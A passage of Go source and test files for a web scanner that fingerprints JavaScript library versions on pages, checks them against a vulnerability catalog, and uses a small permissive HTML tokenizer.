func TestScanScriptBannerAnchor(t *testing.T) {
	body := `/*! jQuery v3.5.1 | (c) the jquery contributors */ console.log(1);`
	hits := ScanScript(body)
	if len(hits) != 1 || hits[0].Slug != "jquery" || hits[0].Version.String() != "3.5.1" || !hits[0].Banner {
		t.Fatalf("hits = %+v, want jquery 3.5.1 via banner", hits)
	}
}

// A version-looking run that straddles no known release resolves to the
// longest release prefix — and to nothing when no prefix is a release.
func TestScanScriptBannerLongestPrefix(t *testing.T) {
	hits := ScanScript(`/*! jQuery v3.5.1.7 */`)
	if len(hits) != 1 || hits[0].Version.String() != "3.5.1" {
		t.Fatalf("hits = %+v, want the 3.5.1 prefix", hits)
	}
	if hits := ScanScript(`/*! jQuery v99.88 */`); len(hits) != 0 {
		t.Fatalf("hits = %+v, want none for an unknown release", hits)
	}
}

// Versions outside the library's release catalog never produce hits — the
// scanner cannot invent versions, same as the URL path.
func TestScanScriptRejectsNonCatalogVersions(t *testing.T) {
	for _, body := range []string{
		`var support={jquery:"9.9.9"};`,
		`_.VERSION="0.0.0-beta";`,
		`Popper.version="notaversion";`,
	} {
		if hits := ScanScript(body); len(hits) != 0 {
			t.Errorf("ScanScript(%q) = %+v, want none", body, hits)
		}
	}
}

// Code evidence beats banner evidence for the same library, and per-library
// hits deduplicate to one.
func TestScanScriptDedupePrefersCode(t *testing.T) {
	body := `/*! jQuery v3.5.0 */` + "\n" + `var support={jquery:"3.5.1",expando:"x"};` +
		"\n" + `var support2={jquery:"3.5.1"};`
	hits := ScanScript(body)
	if len(hits) != 1 {
		t.Fatalf("hits = %+v, want one deduped jquery hit", hits)
	}
	if hits[0].Banner || hits[0].Version.String() != "3.5.1" {
		t.Errorf("hit = %+v, want the code-anchored 3.5.1", hits[0])
	}
}

// Hits across libraries come back ordered by position in the body.
func TestScanScriptOrderedByPos(t *testing.T) {
	body := `_.VERSION="1.8.3";` + "\n" + `var support={jquery:"1.12.4",expando:"y"};` +
		"\n" + `var Util={TRANSITION_END:"bsTransitionEnd",VERSION:"4.5.2"};`
	hits := ScanScript(body)
	if len(hits) != 3 {
		t.Fatalf("hits = %+v, want underscore, jquery, bootstrap", hits)
	}
	wantOrder := []string{"underscore", "jquery", "bootstrap"}
	for i, h := range hits {
		if h.Slug != wantOrder[i] {
			t.Fatalf("hit order = %+v, want %v", hits, wantOrder)
		}
		if i > 0 && hits[i-1].Pos >= h.Pos {
			t.Fatalf("positions not ascending: %+v", hits)
		}
	}
}

// Arbitrary bytes — NULs, invalid UTF-8, truncation mid-anchor — must not
// panic and must not produce hits from garbage.
func TestScanScriptHostileBytes(t *testing.T) {
	for _, body := range []string{
		"",
		"\x00\x00\xff\xfe",
		`var support={jquery:"1.12.`,            // truncated before the quote
		`_.VERSION="` + strings.Repeat("1", 64), // run past maxVersionLen, never closed
		"/*! jQuery v",                          // banner anchor at EOF
	} {
		if hits := ScanScript(body); len(hits) != 0 {
			t.Errorf("ScanScript(%q) = %+v, want none", body, hits)
		}
	}
}

// HasCodeSignature partitions the top-15: banner-only libraries are exactly
// swfobject and jquery-cookie.
func TestHasCodeSignature(t *testing.T) {
	bannerOnly := map[string]bool{"swfobject": true, "jquery-cookie": true}
	for _, lib := range vulndb.Libraries() {
		if got, want := HasCodeSignature(lib.Slug), !bannerOnly[lib.Slug]; got != want {
			t.Errorf("HasCodeSignature(%q) = %v, want %v", lib.Slug, got, want)
		}
	}
}

// PageWithScripts on a page whose URLs already tell the whole story returns
// a detection deep-equal to Page — the plain-mode invariance BundleScan
// promises — and fills only gaps otherwise.
func TestPageWithScriptsGapFillingOnly(t *testing.T) {
	html := `<html><head><script src="/assets/js/jquery-1.12.4.min.js"></script></head></html>`
	base := Page(html, "site.example")
	same := PageWithScripts(html, "site.example", []ScriptBody{
		{URL: "/assets/js/jquery-1.12.4.min.js", Body: `var support={jquery:"3.5.1",expando:"z"};`},
	})
	// The URL pinned 1.12.4; the (conflicting) body evidence must not win.
	if !reflect.DeepEqual(base, same) {
		t.Errorf("URL evidence overridden:\n base %+v\n got %+v", base, same)
	}

	det := PageWithScripts(
		`<html><script src="/assets/bundle.aa.js"></script></html>`, "site.example",
		[]ScriptBody{{URL: "/assets/bundle.aa.js", Body: `_.VERSION="1.8.3";var support={jquery:"1.12.4",expando:"q"};`}},
	)
	got := map[string]string{}
	for _, hit := range det.Libraries {
		if !hit.ViaSignature {
			t.Errorf("bundle-recovered hit not marked ViaSignature: %+v", hit)
		}
		got[hit.Slug] = hit.Version.String()
	}
	want := map[string]string{"underscore": "1.8.3", "jquery": "1.12.4"}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("bundle scan recovered %v, want %v", got, want)
	}
}

// A version-blind URL hit (version-control hosting) is upgraded in place by
// body evidence instead of duplicated.
func TestPageWithScriptsUpgradesVersionBlindHit(t *testing.T) {
	html := `<html><script src="https://raw.githubusercontent.com/jquery/jquery/main/dist/jquery.min.js"></script></html>`
	base := Page(html, "site.example")
	if len(base.Libraries) != 1 || !base.Libraries[0].Version.IsZero() {
		t.Fatalf("precondition: want one version-blind jquery hit, got %+v", base.Libraries)
	}
	det := PageWithScripts(html, "site.example", []ScriptBody{
		{URL: "/js/vendored.js", Body: `var support={jquery:"3.5.1",expando:"w"};`},
	})
	if len(det.Libraries) != 1 {
		t.Fatalf("upgrade duplicated the hit: %+v", det.Libraries)
	}
	h := det.Libraries[0]
	if h.Version.String() != "3.5.1" || !h.ViaSignature {
		t.Errorf("hit = %+v, want version 3.5.1 via signature", h)
	}
	// The original detection must be untouched (copy-on-write).
	if !base.Libraries[0].Version.IsZero() {
		t.Error("merge mutated the input detection's Libraries slice")
	}
}

// Every signature hit's version is a catalog member (spot-checked here, and
// an invariant of the fuzz target).
func TestScanScriptVersionsAreCatalogMembers(t *testing.T) {
	body := `var support={jquery:"1.12.4",expando:"e"};/*! Bootstrap v4.5.2 */`
	for _, h := range ScanScript(body) {
		cat, ok := vulndb.CatalogFor(h.Slug)
		if !ok {
			t.Fatalf("hit for %q: no catalog", h.Slug)
		}
		if _, ok := cat.Find(h.Version); !ok {
			t.Errorf("hit %s@%s not in catalog", h.Slug, h.Version)
		}
	}
}
