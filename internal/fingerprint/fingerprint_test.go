package fingerprint

import (
	"testing"

	"clientres/internal/semver"
)

func detect(t *testing.T, html string) Detection {
	t.Helper()
	return Page(html, "example.com")
}

func TestCDNUrlShapes(t *testing.T) {
	cases := []struct {
		src, slug, ver string
	}{
		{"https://ajax.googleapis.com/ajax/libs/jquery/1.12.4/jquery.min.js", "jquery", "1.12.4"},
		{"https://code.jquery.com/jquery-3.5.1.min.js", "jquery", "3.5.1"},
		{"https://code.jquery.com/ui/1.12.1/jquery-ui.min.js", "jquery-ui", "1.12.1"},
		{"https://cdnjs.cloudflare.com/ajax/libs/jquery-migrate/1.4.1/jquery-migrate.min.js", "jquery-migrate", "1.4.1"},
		{"https://maxcdn.bootstrapcdn.com/bootstrap/3.3.7/js/bootstrap.min.js", "bootstrap", "3.3.7"},
		{"https://cdn.jsdelivr.net/npm/js-cookie@2.1.4/dist/js.cookie.min.js", "js-cookie", "2.1.4"},
		{"https://unpkg.com/popper@1.14.3/dist/popper.min.js", "popper", "1.14.3"},
		{"https://cdnjs.cloudflare.com/ajax/libs/moment/2.18.1/moment.min.js", "moment", "2.18.1"},
		{"https://polyfill.io/v3/polyfill.min.js", "polyfill", "3"},
		{"https://c0.wp.com/c/1.4.1/wp-includes/js/jquery-migrate.min.js", "jquery-migrate", "1.4.1"},
		{"https://ajax.googleapis.com/ajax/libs/swfobject/2.2/swfobject.min.js", "swfobject", "2.2"},
		{"https://momentjs.com/downloads/moment-2.29.1.min.js", "moment", "2.29.1"},
		{"https://cdnjs.cloudflare.com/ajax/libs/prototype/1.6.0.1/prototype.min.js", "prototype", "1.6.0.1"},
	}
	for _, c := range cases {
		det := detect(t, `<script src="`+c.src+`"></script>`)
		if len(det.Libraries) != 1 {
			t.Errorf("%s: %d hits", c.src, len(det.Libraries))
			continue
		}
		h := det.Libraries[0]
		if h.Slug != c.slug || !h.Version.Equal(semver.MustParse(c.ver)) {
			t.Errorf("%s: got (%s, %s), want (%s, %s)", c.src, h.Slug, h.Version, c.slug, c.ver)
		}
		if !h.External || !h.Known {
			t.Errorf("%s: external/known flags wrong: %+v", c.src, h)
		}
	}
}

func TestInternalUrlShapes(t *testing.T) {
	cases := []struct {
		src, slug, ver string
	}{
		{"/assets/js/jquery-1.12.4.min.js", "jquery", "1.12.4"},
		{"/static/jquery/1.12.4/jquery.min.js", "jquery", "1.12.4"},
		{"/js/jquery.min.js?v=1.12.4", "jquery", "1.12.4"},
		{"/wp-includes/js/jquery/jquery.min.js?ver=3.5.1", "jquery", "3.5.1"},
		{"/wp-includes/js/jquery/jquery-migrate.min.js?ver=3.3.2", "jquery-migrate", "3.3.2"},
		{"/assets/js/isotope.pkgd-3.0.4.min.js", "isotope", "3.0.4"},
		{"/assets/js/js.cookie-2.1.4.min.js", "js-cookie", "2.1.4"},
		{"/assets/js/polyfill-3.min.js", "polyfill", "3"},
		{"/assets/js/underscore-1.8.3.min.js", "underscore", "1.8.3"},
		{"/static/requirejs/2.3.6/require.min.js", "requirejs", "2.3.6"},
	}
	for _, c := range cases {
		det := detect(t, `<script src="`+c.src+`"></script>`)
		if len(det.Libraries) != 1 {
			t.Errorf("%s: %d hits", c.src, len(det.Libraries))
			continue
		}
		h := det.Libraries[0]
		if h.Slug != c.slug || !h.Version.Equal(semver.MustParse(c.ver)) {
			t.Errorf("%s: got (%s, %s), want (%s, %s)", c.src, h.Slug, h.Version, c.slug, c.ver)
		}
		if h.External {
			t.Errorf("%s: should be internal", c.src)
		}
	}
}

func TestExternalVsInternalByHost(t *testing.T) {
	html := `<script src="https://example.com/js/jquery-1.12.4.min.js"></script>` +
		`<script src="https://other.com/js/jquery-1.12.4.min.js"></script>`
	det := Page(html, "example.com")
	if len(det.Libraries) != 2 {
		t.Fatalf("hits = %d", len(det.Libraries))
	}
	if det.Libraries[0].External {
		t.Error("same-host absolute URL should be internal")
	}
	if !det.Libraries[1].External {
		t.Error("other-host URL should be external")
	}
}

func TestVersionControlHostedNoVersion(t *testing.T) {
	det := detect(t, `<script src="https://blueimp.github.io/jquery/jquery.min.js"></script>`)
	if len(det.Libraries) != 1 {
		t.Fatalf("hits = %d", len(det.Libraries))
	}
	h := det.Libraries[0]
	if h.Slug != "jquery" || !h.Version.IsZero() || !h.External {
		t.Errorf("github-hosted hit = %+v", h)
	}
}

func TestSiteScriptsAreNotLibraries(t *testing.T) {
	html := `<script src="/js/app.js"></script><script src="/js/theme.js"></script>` +
		`<script>var x = 1;</script>`
	det := detect(t, html)
	if len(det.Libraries) != 0 {
		t.Errorf("site scripts misdetected as libraries: %+v", det.Libraries)
	}
	if !det.Resources.JavaScript || det.ScriptCount != 3 {
		t.Errorf("JS resource flags wrong: %+v count %d", det.Resources, det.ScriptCount)
	}
}

func TestUnknownLibraryWithVersion(t *testing.T) {
	det := detect(t, `<script src="/vendor/lodash/3.2.1/lodash.min.js"></script>`)
	if len(det.Libraries) != 1 {
		t.Fatalf("hits = %d", len(det.Libraries))
	}
	h := det.Libraries[0]
	if h.Slug != "lodash" || h.Known || !h.Version.Equal(semver.MustParse("3.2.1")) {
		t.Errorf("tail hit = %+v", h)
	}
}

func TestSRIAndCrossorigin(t *testing.T) {
	html := `<script src="https://code.jquery.com/jquery-3.5.1.min.js" ` +
		`integrity="sha384-xyz" crossorigin="anonymous"></script>` +
		`<script src="https://code.jquery.com/jquery-1.9.1.min.js"></script>` +
		`<script src="https://code.jquery.com/jquery-2.2.4.min.js" integrity="sha256-q" crossorigin="use-credentials"></script>`
	det := detect(t, html)
	if len(det.Libraries) != 3 {
		t.Fatalf("hits = %d", len(det.Libraries))
	}
	if !det.Libraries[0].SRI || det.Libraries[0].Crossorigin != "anonymous" {
		t.Errorf("hit 0 SRI wrong: %+v", det.Libraries[0])
	}
	if det.Libraries[1].SRI || det.Libraries[1].Crossorigin != "" {
		t.Errorf("hit 1 should have no SRI: %+v", det.Libraries[1])
	}
	if det.Libraries[2].Crossorigin != "use-credentials" {
		t.Errorf("hit 2 crossorigin = %q", det.Libraries[2].Crossorigin)
	}
}

func TestWordPressDetection(t *testing.T) {
	html := `<meta name="generator" content="WordPress 5.6">` +
		`<link rel="stylesheet" href="/wp-content/themes/base/style.css">`
	det := detect(t, html)
	if !det.WordPressSeen || !det.WordPress.Equal(semver.MustParse("5.6")) {
		t.Errorf("WP detection = seen %v version %s", det.WordPressSeen, det.WordPress)
	}
	// Path markers alone set seen without a version.
	det2 := detect(t, `<script src="/wp-includes/js/jquery/jquery.min.js?ver=1.12.4"></script>`)
	if !det2.WordPressSeen || !det2.WordPress.IsZero() {
		t.Errorf("WP path-only detection wrong: %v %s", det2.WordPressSeen, det2.WordPress)
	}
}

func TestFlashDetection(t *testing.T) {
	html := `<object classid="clsid:D27CDB6E-AE6D-11cf-96B8-444553540000">
  <param name="movie" value="/media/banner.swf">
  <param name="allowScriptAccess" value="always">
  <embed src="/media/banner.swf" type="application/x-shockwave-flash" allowscriptaccess="always">
</object>`
	det := detect(t, html)
	if !det.Resources.Flash || det.Flash == nil {
		t.Fatal("Flash not detected")
	}
	if !det.Flash.ScriptAccessParam || !det.Flash.Always {
		t.Errorf("AllowScriptAccess detection = %+v", det.Flash)
	}
}

func TestFlashSameDomainIsNotAlways(t *testing.T) {
	html := `<embed src="/m.swf" allowscriptaccess="sameDomain">`
	det := detect(t, html)
	if det.Flash == nil || !det.Flash.ScriptAccessParam || det.Flash.Always {
		t.Errorf("sameDomain handling wrong: %+v", det.Flash)
	}
}

func TestSWFObjectInlineDetection(t *testing.T) {
	html := `<script>swfobject.embedSWF("/media/banner.swf", "slot", "468", "60", "9.0.0");</script>`
	det := detect(t, html)
	if det.Flash == nil || !det.Flash.ViaSWFObject || !det.Resources.Flash {
		t.Errorf("SWFObject embed not detected: %+v", det.Flash)
	}
}

func TestResourceFlags(t *testing.T) {
	html := `<link rel="stylesheet" href="/css/site.css">
<link rel="shortcut icon" href="/favicon.ico">
<link rel="alternate" type="application/rss+xml" href="/feed.xml">
<link rel="stylesheet" href="/render/styles.php">
<script src="/render/loader.php"></script>
<svg width="1" height="1"></svg>
<script src="/WebResource.axd?d=x"></script>`
	det := detect(t, html)
	r := det.Resources
	if !r.CSS || !r.Favicon || !r.XML || !r.ImportedHTML || !r.SVG || !r.AXD {
		t.Errorf("resource flags = %+v", r)
	}
}

func TestMalformedHTMLDoesNotPanic(t *testing.T) {
	for _, html := range []string{
		"", "<script src=", `<script src="http://%zz/x.js"></script>`,
		"<object><param", `<script src="//host/jquery-1.2.3"></script>`,
	} {
		_ = detect(t, html)
	}
}

func TestBareCrossoriginDefaultsAnonymous(t *testing.T) {
	det := detect(t, `<script src="https://code.jquery.com/jquery-3.5.1.min.js" integrity="sha1-x" crossorigin></script>`)
	if len(det.Libraries) != 1 || det.Libraries[0].Crossorigin != "anonymous" {
		t.Errorf("bare crossorigin = %+v", det.Libraries)
	}
}
