package htmlx

import (
	"strings"
	"testing"
	"testing/quick"
)

func collect(src string) []Token {
	var out []Token
	z := New(src)
	for {
		tok, ok := z.Next()
		if !ok {
			return out
		}
		out = append(out, tok)
	}
}

func TestSimpleDocument(t *testing.T) {
	src := `<!DOCTYPE html><html><head><title>Hi</title></head><body><p class="x">text</p></body></html>`
	toks := collect(src)
	var kinds []string
	for _, tok := range toks {
		kinds = append(kinds, tok.Kind.String()+":"+tok.Name)
	}
	want := []string{
		"doctype:", "start:html", "start:head", "start:title", "text:",
		"end:title", "end:head", "start:body", "start:p", "text:",
		"end:p", "end:body", "end:html",
	}
	if len(kinds) != len(want) {
		t.Fatalf("got %d tokens %v, want %d", len(kinds), kinds, len(want))
	}
	for i := range want {
		if kinds[i] != want[i] {
			t.Errorf("token %d = %s, want %s", i, kinds[i], want[i])
		}
	}
}

func TestAttributes(t *testing.T) {
	src := `<script src="https://code.jquery.com/jquery-1.12.4.min.js" integrity="sha256-abc" crossorigin='anonymous' async data-x=plain></script>`
	tags := Tags(src)
	if len(tags) != 1 {
		t.Fatalf("got %d tags", len(tags))
	}
	tag := tags[0]
	checks := map[string]string{
		"src":         "https://code.jquery.com/jquery-1.12.4.min.js",
		"integrity":   "sha256-abc",
		"crossorigin": "anonymous",
		"async":       "",
		"data-x":      "plain",
	}
	for k, want := range checks {
		got, ok := tag.Attr(k)
		if !ok || got != want {
			t.Errorf("attr %q = %q (present %v), want %q", k, got, ok, want)
		}
	}
	if !tag.HasAttr("async") {
		t.Error("HasAttr(async) = false")
	}
	if tag.HasAttr("nope") {
		t.Error("HasAttr(nope) = true")
	}
}

func TestCaseInsensitivity(t *testing.T) {
	src := `<SCRIPT SRC="/a.js"></SCRIPT><LINK REL="stylesheet" HREF="/x.css">`
	tags := Tags(src)
	if len(tags) != 2 || tags[0].Name != "script" || tags[1].Name != "link" {
		t.Fatalf("tags = %+v", tags)
	}
	if v, _ := tags[0].Attr("src"); v != "/a.js" {
		t.Errorf("src = %q", v)
	}
}

func TestScriptBodyIsRawText(t *testing.T) {
	src := `<script>if (a < b) { x = "<p>not a tag</p>"; }</script><p>after</p>`
	els := Elements(src)
	if len(els) != 2 {
		t.Fatalf("got %d elements: %+v", len(els), els)
	}
	if els[0].Tag.Name != "script" || !strings.Contains(els[0].Body, `a < b`) {
		t.Errorf("script body = %q", els[0].Body)
	}
	if !strings.Contains(els[0].Body, "<p>not a tag</p>") {
		t.Errorf("raw text should keep inner markup, got %q", els[0].Body)
	}
	if els[1].Tag.Name != "p" {
		t.Errorf("second element = %q", els[1].Tag.Name)
	}
}

func TestEmptyScript(t *testing.T) {
	src := `<script src="/a.js"></script><script src="/b.js"></script>`
	els := Elements(src)
	if len(els) != 2 {
		t.Fatalf("got %d elements", len(els))
	}
	for i, el := range els {
		if el.Body != "" {
			t.Errorf("element %d body = %q, want empty", i, el.Body)
		}
	}
}

func TestComments(t *testing.T) {
	src := `<!-- jQuery v1.12.4 --><p>x</p><!--[if IE]>old<![endif]-->`
	got := Comments(src)
	if len(got) != 2 || got[0] != " jQuery v1.12.4 " || !strings.Contains(got[1], "old") {
		t.Errorf("Comments = %q", got)
	}
}

func TestSelfClosing(t *testing.T) {
	src := `<br/><img src="x.png" /><embed src="movie.swf" allowscriptaccess="always"/>`
	tags := Tags(src)
	if len(tags) != 3 {
		t.Fatalf("got %d tags", len(tags))
	}
	for _, tag := range tags {
		if tag.Kind != SelfClosingTagToken {
			t.Errorf("%s kind = %v, want self-closing", tag.Name, tag.Kind)
		}
	}
	if v, _ := tags[2].Attr("allowscriptaccess"); v != "always" {
		t.Errorf("allowscriptaccess = %q", v)
	}
}

func TestMalformedInputsDoNotPanic(t *testing.T) {
	inputs := []string{
		"", "<", "<<", "<>", "< p>", "<p", "<p class=", `<p class="unterminated`,
		"<script>never closed", "<!-- never closed", "<!doctype", "a<b>c",
		"</", "</>", "<p/", "<p //>", "text only", "<p a b c>", "\x00<p>\xff",
	}
	for _, in := range inputs {
		toks := collect(in) // must terminate without panic
		_ = toks
	}
}

// Fuzz-found regression (corpus a05ddc0de04017ed): invalid UTF-8 in a
// raw-text body panicked the tokenizer, because strings.ToLower re-encodes
// each bad byte as a 3-byte U+FFFD rune, so the end-tag index found in the
// lowered string landed past the end of the real source.
func TestRawTextInvalidUTF8DoesNotPanic(t *testing.T) {
	src := "<stYle>\xff\xff\xff\xde</stYle"
	toks := collect(src)
	var body string
	for _, tok := range toks {
		if tok.Kind == TextToken {
			body += tok.Data
		}
	}
	if body != "\xff\xff\xff\xde" {
		t.Errorf("raw-text body = %q", body)
	}
}

func TestIndexFoldASCII(t *testing.T) {
	cases := []struct {
		s, needle string
		want      int
	}{
		{"abc</SCRIPT>", "</script", 3},
		{"abc</script>", "</script", 3},
		{"\xff\xff</StYlE", "</style", 2},
		{"no end tag here", "</script", -1},
		{"", "</script", -1},
		{"x", "", 0},
		{"</scrip", "</script", -1},
	}
	for _, tc := range cases {
		if got := indexFoldASCII(tc.s, tc.needle); got != tc.want {
			t.Errorf("indexFoldASCII(%q, %q) = %d, want %d", tc.s, tc.needle, got, tc.want)
		}
	}
}

func TestLiteralLessThanInText(t *testing.T) {
	src := `<p>1 < 2 and 3 > 2</p>`
	text := TextContent(src)
	if !strings.Contains(text, "1 < 2") {
		t.Errorf("TextContent = %q", text)
	}
}

func TestUnquotedAttributeStopsAtGT(t *testing.T) {
	src := `<param name=allowScriptAccess value=always><p>x</p>`
	tags := Tags(src)
	if len(tags) != 2 {
		t.Fatalf("got %d tags", len(tags))
	}
	if v, _ := tags[0].Attr("value"); v != "always" {
		t.Errorf("value = %q", v)
	}
}

func TestStyleRawText(t *testing.T) {
	src := `<style>p > a { color: red; }</style><a>x</a>`
	els := Elements(src)
	if len(els) != 2 || !strings.Contains(els[0].Body, "p > a") {
		t.Fatalf("els = %+v", els)
	}
}

func TestOffsets(t *testing.T) {
	src := `abc<p>def</p>`
	toks := collect(src)
	if toks[0].Offset != 0 || toks[1].Offset != 3 || toks[2].Offset != 6 {
		t.Errorf("offsets = %d %d %d", toks[0].Offset, toks[1].Offset, toks[2].Offset)
	}
}

func TestMixedQuotes(t *testing.T) {
	src := `<a href='x"y' title="a'b">z</a>`
	tags := Tags(src)
	if v, _ := tags[0].Attr("href"); v != `x"y` {
		t.Errorf("href = %q", v)
	}
	if v, _ := tags[0].Attr("title"); v != "a'b" {
		t.Errorf("title = %q", v)
	}
}

func TestEndTagWithAttrs(t *testing.T) {
	// Invalid HTML but seen in the wild; must not break tokenization.
	src := `<p>x</p class="y"><b>z</b>`
	toks := collect(src)
	var names []string
	for _, tok := range toks {
		if tok.Kind == StartTagToken {
			names = append(names, tok.Name)
		}
	}
	if len(names) != 2 || names[0] != "p" || names[1] != "b" {
		t.Errorf("start tags = %v", names)
	}
}

// Property: the tokenizer terminates and never panics on arbitrary input.
func TestQuickNeverPanics(t *testing.T) {
	f := func(s string) (ok bool) {
		defer func() {
			if recover() != nil {
				ok = false
			}
		}()
		z := New(s)
		n := 0
		for {
			_, more := z.Next()
			if !more {
				break
			}
			n++
			if n > len(s)+16 {
				return false // non-termination guard
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Error(err)
	}
}

// Property: generated tags with arbitrary attribute values round-trip.
func TestQuickAttrRoundTrip(t *testing.T) {
	f := func(rawVal string) bool {
		// Quoted attribute values cannot contain the quote character.
		val := strings.Map(func(r rune) rune {
			if r == '"' || r == '<' {
				return 'x'
			}
			return r
		}, rawVal)
		src := `<div data-v="` + val + `"></div>`
		tags := Tags(src)
		if len(tags) != 1 {
			return false
		}
		got, ok := tags[0].Attr("data-v")
		return ok && got == val
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}
