// Package htmlx is a small, permissive HTML tokenizer built only on the
// standard library.
//
// It exists because the crawler and the fingerprint engine need to look at
// tags, attributes, inline-script bodies, and comments of arbitrary
// real-world landing pages, and the x/net/html package is outside this
// module's stdlib-only constraint. The tokenizer is forgiving in the way
// browsers are: unclosed quotes, stray '<', and malformed tags never make
// it fail — at worst a token is skipped.
package htmlx

import "strings"

// TokenKind distinguishes the token categories the tokenizer emits.
type TokenKind int

// Token kinds.
const (
	// TextToken is character data between tags.
	TextToken TokenKind = iota
	// StartTagToken is an opening tag like <script src="x">.
	StartTagToken
	// EndTagToken is a closing tag like </script>.
	EndTagToken
	// SelfClosingTagToken is a tag with an explicit trailing slash.
	SelfClosingTagToken
	// CommentToken is a <!-- ... --> comment (data excludes the markers).
	CommentToken
	// DoctypeToken is a <!DOCTYPE ...> declaration.
	DoctypeToken
)

func (k TokenKind) String() string {
	switch k {
	case TextToken:
		return "text"
	case StartTagToken:
		return "start"
	case EndTagToken:
		return "end"
	case SelfClosingTagToken:
		return "self-closing"
	case CommentToken:
		return "comment"
	case DoctypeToken:
		return "doctype"
	}
	return "unknown"
}

// Attr is a single name="value" attribute. Keys are lowercased; values keep
// their original text with surrounding quotes stripped.
type Attr struct {
	Key, Val string
}

// Token is one lexical element of the document.
type Token struct {
	Kind TokenKind
	// Name is the lowercased tag name for tag tokens, empty otherwise.
	Name string
	// Data is the text for TextToken/CommentToken/DoctypeToken tokens.
	Data string
	// Attrs are the tag attributes in source order (tag tokens only).
	Attrs []Attr
	// Offset is the byte offset of the token start in the input.
	Offset int
}

// Attr returns the value of the named attribute (case-insensitive key) and
// whether it is present.
func (t Token) Attr(key string) (string, bool) {
	for _, a := range t.Attrs {
		if a.Key == key {
			return a.Val, true
		}
	}
	return "", false
}

// HasAttr reports whether the named attribute is present, even if empty.
func (t Token) HasAttr(key string) bool {
	_, ok := t.Attr(key)
	return ok
}

// rawTextElements hold unparsed character data until their matching end tag.
var rawTextElements = map[string]bool{
	"script": true, "style": true, "textarea": true, "title": true,
}

// Tokenizer walks an HTML document. The zero value is not usable; call New.
type Tokenizer struct {
	src string
	pos int
	// pendingRaw is the element name whose raw text body must be emitted
	// next (after its start tag was returned).
	pendingRaw string
}

// New returns a Tokenizer over src.
func New(src string) *Tokenizer {
	return &Tokenizer{src: src}
}

// Next returns the next token and true, or a zero Token and false at the end
// of input.
func (z *Tokenizer) Next() (Token, bool) {
	if z.pendingRaw != "" {
		return z.rawText()
	}
	if z.pos >= len(z.src) {
		return Token{}, false
	}
	if z.src[z.pos] != '<' {
		return z.text()
	}
	// '<' at pos: decide what construct follows.
	rest := z.src[z.pos:]
	switch {
	case strings.HasPrefix(rest, "<!--"):
		return z.comment()
	case strings.HasPrefix(rest, "<!"):
		return z.doctype()
	case strings.HasPrefix(rest, "</"):
		return z.tag(true)
	case len(rest) > 1 && isNameStart(rest[1]):
		return z.tag(false)
	default:
		// Literal '<' that opens nothing; treat as text.
		return z.text()
	}
}

func isNameStart(c byte) bool {
	return c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z'
}

func (z *Tokenizer) text() (Token, bool) {
	start := z.pos
	// Consume at least one byte so a literal '<' makes progress.
	z.pos++
	for z.pos < len(z.src) && z.src[z.pos] != '<' {
		z.pos++
	}
	return Token{Kind: TextToken, Data: z.src[start:z.pos], Offset: start}, true
}

func (z *Tokenizer) comment() (Token, bool) {
	start := z.pos
	end := strings.Index(z.src[z.pos+4:], "-->")
	if end < 0 {
		data := z.src[z.pos+4:]
		z.pos = len(z.src)
		return Token{Kind: CommentToken, Data: data, Offset: start}, true
	}
	data := z.src[z.pos+4 : z.pos+4+end]
	z.pos += 4 + end + 3
	return Token{Kind: CommentToken, Data: data, Offset: start}, true
}

func (z *Tokenizer) doctype() (Token, bool) {
	start := z.pos
	end := strings.IndexByte(z.src[z.pos:], '>')
	if end < 0 {
		data := z.src[z.pos+2:]
		z.pos = len(z.src)
		return Token{Kind: DoctypeToken, Data: data, Offset: start}, true
	}
	data := z.src[z.pos+2 : z.pos+end]
	z.pos += end + 1
	return Token{Kind: DoctypeToken, Data: data, Offset: start}, true
}

// rawText emits the body of a raw-text element (script/style/...) up to its
// case-insensitive end tag, leaving the tokenizer positioned at the end tag.
func (z *Tokenizer) rawText() (Token, bool) {
	name := z.pendingRaw
	z.pendingRaw = ""
	start := z.pos
	// ASCII-fold search: strings.ToLower would re-encode invalid UTF-8
	// bytes as 3-byte U+FFFD runes, shifting every index after them past
	// the end of the real source.
	idx := indexFoldASCII(z.src[z.pos:], "</"+name)
	if idx < 0 {
		z.pos = len(z.src)
		if start == len(z.src) {
			return z.Next()
		}
		return Token{Kind: TextToken, Data: z.src[start:], Offset: start}, true
	}
	z.pos = start + idx
	if idx == 0 {
		// Empty body: skip straight to the end tag.
		return z.Next()
	}
	return Token{Kind: TextToken, Data: z.src[start : start+idx], Offset: start}, true
}

func (z *Tokenizer) tag(closing bool) (Token, bool) {
	start := z.pos
	p := z.pos + 1
	if closing {
		p++
	}
	// Tag name.
	nameStart := p
	for p < len(z.src) && isNameChar(z.src[p]) {
		p++
	}
	name := strings.ToLower(z.src[nameStart:p])
	if name == "" {
		// Malformed; consume the '<' as text.
		return z.text()
	}
	tok := Token{Kind: StartTagToken, Name: name, Offset: start}
	if closing {
		tok.Kind = EndTagToken
	}
	// Attributes.
	for p < len(z.src) {
		for p < len(z.src) && isSpace(z.src[p]) {
			p++
		}
		if p >= len(z.src) {
			break
		}
		if z.src[p] == '>' {
			p++
			z.pos = p
			z.afterTag(&tok)
			return tok, true
		}
		if z.src[p] == '/' {
			p++
			if p < len(z.src) && z.src[p] == '>' {
				p++
				z.pos = p
				if tok.Kind == StartTagToken {
					tok.Kind = SelfClosingTagToken
				}
				return tok, true
			}
			continue
		}
		// Attribute name.
		aStart := p
		for p < len(z.src) && !isSpace(z.src[p]) && z.src[p] != '=' && z.src[p] != '>' && z.src[p] != '/' {
			p++
		}
		key := strings.ToLower(z.src[aStart:p])
		val := ""
		for p < len(z.src) && isSpace(z.src[p]) {
			p++
		}
		if p < len(z.src) && z.src[p] == '=' {
			p++
			for p < len(z.src) && isSpace(z.src[p]) {
				p++
			}
			if p < len(z.src) && (z.src[p] == '"' || z.src[p] == '\'') {
				quote := z.src[p]
				p++
				vStart := p
				for p < len(z.src) && z.src[p] != quote {
					p++
				}
				val = z.src[vStart:p]
				if p < len(z.src) {
					p++ // closing quote
				}
			} else {
				vStart := p
				for p < len(z.src) && !isSpace(z.src[p]) && z.src[p] != '>' {
					p++
				}
				val = z.src[vStart:p]
			}
		}
		if key != "" {
			tok.Attrs = append(tok.Attrs, Attr{Key: key, Val: val})
		}
	}
	// Unterminated tag: emit what we have.
	z.pos = len(z.src)
	z.afterTag(&tok)
	return tok, true
}

